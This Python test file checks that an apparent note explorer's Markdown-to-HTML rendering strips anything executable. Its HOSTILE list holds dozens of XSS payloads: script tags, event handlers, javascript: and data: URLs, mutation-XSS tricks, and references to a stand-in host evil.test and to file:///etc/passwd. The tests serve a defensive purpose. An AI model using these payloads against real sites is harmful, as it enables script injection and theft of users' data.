"""Notes as the explorer shows them: links are the index's, and nothing in a note can do harm."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graphkit.explorer.destinations import Destinations
from graphkit.explorer.markup import marked_up
from graphkit.explorer.rendering import cleaned, note_shown
from graphkit.model import Concept
from graphkit.stores.embedded import EmbeddedStore
from graphkit.stores.neo4j.store import Neo4jStore
from tests.neo4j.loading import load_vault

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.explorer.served import Served
    from tests.neo4j.server import Server

    Shown = Callable[..., dict[str, Any]]

HARMLESS = frozenset(
    "a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em"
    " figcaption figure h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q rp rt ruby s samp small"
    " span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr".split()
)
ATTRIBUTES = frozenset(
    "class colspan data-concept data-line dir href lang open rel rowspan start target title".split()
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html;base64,PHNjcmlwdD4='>",
    "<style>@import '//evil.test/x.css'; body{display:none}</style>",
    "<p style='background:url(//evil.test/x)'>x</p>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<form action='//evil.test/'><input name=x><button>send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.test/x.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='blob:http://127.0.0.1/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/api/map' download>x</a>",
    "<a href='/?token=x'>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<a href='\\\\evil.test\\x'>x</a>",
    "<a href='x.html' ping='//evil.test/'>x</a>",
    "<a href='#concept=a&path=b' onclick=alert(1)>x</a>",
    "<a href='#anything-else'>x</a>",
    "<a target=_top href='https://evil.test/'>x</a>",
    "<area href='javascript:alert(1)'>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert%281%29)",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](obsidian://open?vault=x)",
    "[x](//evil.test/ 'title\" onclick=alert(1) \"')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](//evil.test/pixel.gif)",
    "![x](https://evil.test/pixel.gif)",
    '![[x.svg]] ![["><img src=x onerror=alert(1)>]]',
    '[["><script>alert(1)</script>]]',
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]] [[data:text/html,x]]",
    "[[' onmouseover='alert(1)]]",
    "# <img src=x onerror=alert(1)>",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "| <script>alert(1)</script> | [[a|<b onclick=x>]] |\n|---|---|\n| x | `[[a|b]]` |",
    "[^<img src=x onerror=alert(1)>]: x",
    "<div id=app><div id=card></div></div><a name=location></a>",
    "<p id=content class='moment secret'>x</p>",
    "<p data-line=1e9 data-line='1;x' data-concept=x data-evil=y>x</p>",
    '<a class="yt-timestamp" data-t="00:01:00" onclick=alert(1)>[00:01:00]</a>',
    '<a class="yt-timestamp" data-t="00:01:00</a> and the rest <b>of it',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p>" * 1_000 + "<b><i>" * 1_000,
    "\u202e<b>x</b>\u2066 \ufeff \ud7ff",
]  # fmt: skip


class _Elements(HTMLParser):
    """The elements of HTML with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs)
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def of(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.elements if name == tag]


def checked(html: str) -> _Elements:
    """What HTML holds, which is nothing that could run, fetch, or reach out of its place."""
    found = _Elements(html)
    for tag, attributes in found.elements:
        assert tag in HARMLESS
        assert attributes.keys() <= ATTRIBUTES
        if "href" in attributes:
            address = attributes["href"]
            assert address.lower().startswith(("http://", "https://", "mailto:", "#concept="))
            assert attributes["rel"] == "noopener noreferrer"
        if "class" in attributes:
            assert set(attributes["class"].split()) <= {"attachment", "moment", "unresolved"}
        assert attributes.get("data-line", "1").isdigit()
        assert attributes.get("target", "_blank") == "_blank"
    return found


@pytest.fixture
def shown(make_vault: Callable[[dict[str, str]], Path], tmp_path: Path) -> Iterator[Shown]:
    """Shows a note of a vault: ``shown({"a.md": "[[b]]"})`` shows the note ``a``."""
    opened: list[EmbeddedStore] = []

    def show(files: dict[str, str], id_: str = "a") -> dict[str, Any]:
        if not opened:
            opened.append(EmbeddedStore(make_vault(files), index=tmp_path / "index"))
            opened[0].refresh()
        return note_shown(opened[0], Concept(id_, id_, note=True))

    yield show
    for store in opened:
        store.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_note_is_harmless(shown: Shown, text: str) -> None:
    """Whatever stands in a note, no element, attribute or address comes through that could act."""
    note = shown({"a.md": f"---\nvideoId: XLr2RKoD-oY\n---\nBefore.\n\n{text}\n\nAfter.\n"})
    found = checked(note["html"])
    assert "Before." in found.text


MARKS = st.sampled_from(
    "< > / = ' \" & ; : # [ ] ( ) ! | ` $ * _ ~ ^ - \\ \n \t % a b x img svg script style href src"
    " onerror javascript: data: https:// <a <b> </a> <!-- --> [[ ]] ![[ &#x3c; &colon; <p> <td>"
    " <table> </table> data-t= class= \x00 \x1f \x02 \u2028".split(" ")
)


@given(st.lists(MARKS, max_size=60).map("".join))
def test_any_markup_is_harmless(text: str) -> None:
    """So it is with whatever marks in whatever order."""
    checked(cleaned(marked_up(text, 0, "XLr2RKoD-oY", Destinations([]))))
    checked(cleaned(text))


@pytest.mark.parametrize(
    "piece",
    ["> ", ">", "*a* ", "**a", "[[a]] ", "[[", "[a](b) ", "![", "<div>", "<div>\n\n", "<a href=x>",
     "<", "| a ", "|a|b|\n|-|-|\n", "- ", "# a\n", "[^1]", "%%", "&amp;", "a", "<b><a>"],
)  # fmt: skip
def test_long_lines(piece: str) -> None:
    """A long line of anything is shown, and ends; its elements do not nest without bound."""
    text = (piece * 300_000)[:300_000]
    html = cleaned(marked_up(text, 0, None, Destinations([])))
    assert html
    depth = deepest = 0
    for part in html.split("<")[1:]:
        tag = part.split(">")[0].split(" ")[0]
        if tag.startswith("/"):
            depth -= 1
        elif tag not in {"br", "hr"}:
            depth += 1
        deepest = max(deepest, depth)
    assert deepest < 2_100


def test_a_line_of_a_megabyte(shown: Shown) -> None:
    """A note that is one line of a megabyte is shown whole."""
    note = shown({"a.md": "word " * 199_000 + "[[b]]"})
    assert note["html"].count("word") == 199_000
    assert 'data-concept="b"' in note["html"]


def test_what_is_too_long_says_so(shown: Shown) -> None:
    """A note is shown up to a million characters; then it says that it goes on."""
    note = shown({"a.md": "Some words.\n\n" * 100_000})
    assert note["html"].endswith("<p>The note goes on in its file.</p>")
    assert note["lines"] == 200_001


@pytest.mark.parametrize("which", ["notes", "shared_vault"])
def test_links_are_those_of_the_index(
    which: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """In every note each link leads where the index says, from the line that it says."""
    store = EmbeddedStore(request.getfixturevalue(which), index=tmp_path / "index")
    store.refresh()
    for node in list(store.all_nodes()):
        if not node.note:
            continue
        html = note_shown(store, Concept(node.id, node.title, node.note))["html"]
        links = [link for link in store.links([node.id], "out") if link.kind != "property"]
        seen = [
            (int(a["data-line"]), a["data-concept"], "unresolved" in a.get("class", ""))
            for a in checked(html).of("a")
            if "data-concept" in a
        ]
        assert sorted(seen) == sorted(
            (link.line, link.target, link.resolved_by is None) for link in links
        )
        for a in checked(html).of("a"):
            if "data-concept" in a:
                assert unquote(a["href"].removeprefix("#concept=")) == a["data-concept"]
    store.close()


def test_links(shown: Shown) -> None:
    """Wiki-links, Markdown links, embeds and aliases walk on; what is no concept does not."""
    note = shown(
        {
            "a.md": "---\nrelated: '[[b]]'\nvideoId: XLr2RKoD-oY\n---\n"
            "[[b]] and [[b | the other]] and [by path](d/c.md#part), [[same|one]].\n"
            "\n"
            "![[b]] [[nowhere]] [[Bee]] [[#here]]\n"
            "\n"
            "| Table | Row |\n|--|--|\n| [[b|in a row]] | [out](https://example.org/x?y=1&z=2) |\n"
            "\n"
            "![[picture.png]] ![shot](https://example.org/s.png) [paper](p.pdf) <b@example.org>\n"
            "\n"
            'Said here. <a class="yt-timestamp" data-t="00:01:40">[00:01:40]</a> '
            "[01:40](https://youtu.be/XLr2RKoD-oY?t=100)\n",
            "b.md": "---\naliases: [Bee]\n---\n",
            "d/c.md": "",
            "d/same.md": "",
            "same.md": "",
        }
    )
    found = checked(note["html"])
    walks = [
        (a["data-concept"], int(a["data-line"]), a.get("class"))
        for a in found.of("a")
        if "data-concept" in a
    ]
    assert walks == [
        ("b", 5, None),
        ("b", 5, None),
        ("d/c", 5, None),
        ("same", 5, None),
        ("b", 7, None),
        ("nowhere", 7, "unresolved"),
        ("b", 7, None),
        ("a", 7, None),
        ("b", 11, None),
    ]
    assert ">the other</a>" in note["html"]
    assert ">in a row</a>" in note["html"]
    outside = [a["href"] for a in found.of("a") if "data-concept" not in a]
    assert outside == [
        "https://example.org/x?y=1&z=2",
        "https://example.org/s.png",
        "mailto:b@example.org",
        "https://youtu.be/XLr2RKoD-oY?t=100",
        "https://youtu.be/XLr2RKoD-oY?t=100",
    ]
    assert all(a["target"] == "_blank" for a in found.of("a") if "data-concept" not in a)
    assert [span["class"] for span in found.of("span")] == ["attachment", "attachment"]
    assert "picture.png" in found.text
    assert "related" not in found.text


def test_blocks_say_their_lines(shown: Shown) -> None:
    """Each block says the line of the file in which it begins, whatever stands above it."""
    note = shown(
        {
            "a.md": "---\ntitle: A\ntags: [x]\n---\n# One\n\nSome %% hidden\nwords %% here.\n\n"
            "- first\n- second\n  - third\n\n> quoted\n\n```\ncode\n```\n\n## Two\n\n***\n\n"
            "1. one\n\n| a |\n|---|\n| b |\n\n- [x] done\n\nNote.[^1]\n\n[^1]: Foot.\n"
        }
    )
    found = checked(note["html"])
    lines = [
        (tag, int(attributes["data-line"]))
        for tag, attributes in found.elements
        if "data-line" in attributes
    ]
    assert lines == [
        ("h2", 5), ("p", 7), ("ul", 10), ("li", 10), ("li", 11), ("ul", 12), ("li", 12),
        ("blockquote", 14), ("p", 14), ("pre", 16), ("h3", 20), ("hr", 22), ("ol", 24), ("li", 24),
        ("table", 26), ("tr", 26), ("tr", 28), ("ul", 30), ("li", 30), ("p", 32), ("div", 34),
        ("p", 34),
    ]  # fmt: skip
    assert "hidden" not in found.text
    assert "☑ done" in found.text
    assert found.of("th")
    assert found.of("td")


def test_an_open_raw_link_ends_with_its_block(shown: Shown) -> None:
    """A link that a note leaves open does not make a link of all that follows."""
    note = shown({"a.md": "<a href='https://example.org'>open\n\nNext.\n\n- <a href=x>item\n- two"})
    for piece in ("Next.", "two"):
        before = note["html"][: note["html"].index(piece)]
        assert before.count("<a ") == before.count("</a>")


def test_a_note_that_has_changed_since(shown: Shown, tmp_path: Path) -> None:
    """A note that is edited after it was read shows its new words, and known links still lead."""
    files = {"a.md": "[[b]]", "b.md": "", "c.md": ""}
    shown(files)
    (tmp_path / "vault" / "a.md").write_text("New.\n\nAnd [[b]], [[c]].", encoding="utf-8")
    note = shown(files)
    found = checked(note["html"])
    assert [a["data-concept"] for a in found.of("a")] == ["b"]
    assert "New." in found.text
    assert [span["class"] for span in found.of("span")] == ["unresolved"]


def test_a_note_whose_file_has_gone(shown: Shown, tmp_path: Path) -> None:
    """Its text is shown as the index has it, a paragraph a passage, and no editor is offered."""
    files = {
        "a.md": "---\ntitle: A\n---\n# Head\n\nSome <i>words</i> of [[b]].\n\n- item",
        "b.md": "",
    }
    assert shown(files)["file"]
    (tmp_path / "vault" / "a.md").unlink()
    note = shown(files)
    assert (note["file"], note["editor"], note["obsidian"]) == (False, None, None)
    lines = [(int(p["data-line"])) for p in checked(note["html"]).of("p")]
    assert lines == [4, 6, 8]
    assert checked(note["html"]).text.split("\n")[:3] == ["Head", "Some words of b.", "item"]


def test_addresses_of_programs(shown: Shown, tmp_path: Path) -> None:
    """The editor's and Obsidian's addresses name the file, whatever characters are in its name."""
    note = shown({"d/ü & #1 %.md": "x"}, "d/ü & #1 %")
    file = tmp_path / "vault" / "d" / "ü & #1 %.md"
    assert unquote(note["editor"]) == f"vscode://file{file}:1"
    assert unquote(note["obsidian"]) == f"obsidian://open?path={file}"
    for address in (note["editor"], note["obsidian"]):
        assert not set(address) & set(" #<>\"'")
        assert "&" not in address


def test_bytes_that_are_no_text(shown: Shown, tmp_path: Path) -> None:
    """A note of other bytes is shown with the bad ones replaced."""
    files = {"a.md": "x"}
    shown(files)
    (tmp_path / "vault" / "a.md").write_bytes(b"\xef\xbb\xbfgood \xff\xfe\x00 bytes\r\nnext")
    found = checked(shown(files)["html"])
    assert found.text.split()[0] == "good"
    assert "bytes" in found.text


def test_without_files(notes: Path, empty_server: Server, tmp_path: Path) -> None:
    """From Neo4j the note is its passages, in their lines; after --no-text there are none."""
    load_vault(notes, tmp_path / "index", empty_server)
    theirs = Neo4jStore(empty_server.uri, empty_server.environment)
    note = note_shown(theirs, Concept("control/dopamine", "Dopamine", note=True))
    assert (note["file"], note["editor"], note["path"]) == (False, None, "control/dopamine.md")
    found = checked(note["html"])
    text = (notes / "control" / "dopamine.md").read_text(encoding="utf-8").split("\n")
    for paragraph in found.of("p"):
        assert text[int(paragraph["data-line"]) - 1]
    assert "Dopamine is a modulator" in found.text
    assert note["lines"] == max(int(p["data-line"]) for p in found.of("p"))
    theirs.close()


def test_over_http(explorer: Served, notes: Path) -> None:
    """A note is asked for by its concept."""
    note = explorer.api("note", concept="nmj")
    assert list(note) == "id title path html lines file editor obsidian".split()
    assert note["path"] == "junction/neuromuscular_junction.md"
    assert unquote(note["obsidian"]).endswith(str(notes / note["path"]))
